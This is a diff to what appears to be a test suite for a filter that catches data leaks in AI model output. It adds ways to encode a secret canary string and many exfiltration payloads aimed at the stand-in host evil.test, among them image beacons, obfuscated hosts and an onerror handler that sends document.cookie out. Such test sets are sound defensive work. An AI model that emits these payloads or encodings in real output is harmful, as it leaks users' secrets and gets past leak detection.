@@ -350,6 +350,17 @@ _CANARY_TRANSFORMS: list[tuple[str, Callable[[str], str]]] = [
     ("en_dash_separated", lambda c: "\u2013".join(_chunks(c, 3))),
     ("unicode_tag_characters", lambda c: "Sure!" + "".join(chr(0xE0000 + ord(x)) for x in c)),
     ("variation_selector_bytes", lambda c: _selector_bytes(c)),
+    ("base64_of_base64", lambda c: _b64(_b64(c))),
+    ("hex_of_base64", lambda c: _b64(c).encode().hex()),
+    ("rot13_of_reversed", lambda c: codecs.encode(c[::-1], "rot13")),
+    ("decimal_char_codes", lambda c: ",".join(str(ord(x)) for x in c)),
+    ("binary_bytes", lambda c: " ".join(format(ord(x), "08b") for x in c)),
+    ("octal_escapes", lambda c: "".join(f"\\{ord(x):o}" for x in c)),
+    (
+        "halves_paragraphs_apart",
+        lambda c: c[:10] + "\n\n" + "Lorem ipsum dolor sit amet. " * 12 + c[10:],
+    ),
+    ("json_unicode_escape", lambda c: '{"v": "' + c.replace("n", "\\u006e") + '"}'),
 ]
 
 
@@ -410,6 +421,27 @@ _EXFIL: list[tuple[str, str]] = [
     ("object_data", '<object data="https://evil.test/o.svg"></object>'),
     ("script_src", '<script src="https://evil.test/s.js"></script>'),
     ("image_inside_link", "[![x](https://evil.test/i.png)](https://docs.python.org)"),
+    ("img_after_html_comment", "<!-- x --><img src=https://evil.test/a.png>"),
+    ("img_newline_inside_scheme", '<img src="ht\ntps://evil.test/a.png">'),
+    ("link_rel_preload_image", '<link rel=preload as=image href="https://evil.test/p.png">'),
+    (
+        "svg_foreign_object_img",
+        '<svg><foreignObject><img src="https://evil.test/f.png"/></foreignObject></svg>',
+    ),
+    ("md_image_percent_encoded_host", "![x](https://%65vil.test/a.png)"),
+    ("md_image_decimal_ip", "![x](http://2130706433/a.png)"),
+    ("md_image_ideographic_full_stop", "![x](https://evil\u3002test/a.png)"),
+    (
+        "embed_svg_data_url_base64",
+        '<embed src="data:image/svg+xml;base64,'
+        + _b64('<svg><image href="https://evil.test/x.png"/></svg>')
+        + '">',
+    ),
+    ("table_background", '<table background="https://evil.test/t.png"><tr><td>x</td></tr></table>'),
+    ("img_named_entity_colon", '<img src="https&colon;//evil.test/a.png">'),
+    ("autolink_short_password", "<https://evil.test/?pw=hunter22&u=olivia>"),
+    ("img_onerror_fetch", "<img src=x onerror=\"fetch('https://evil.test/?c='+document.cookie)\">"),
+    ("script_image_beacon", "<script>new Image().src='//evil.test/p?x=1'</script>"),
     (
         "picture_source_srcset",
         '<picture><source srcset="https://evil.test/p.webp"><img src="a.png"></picture>',
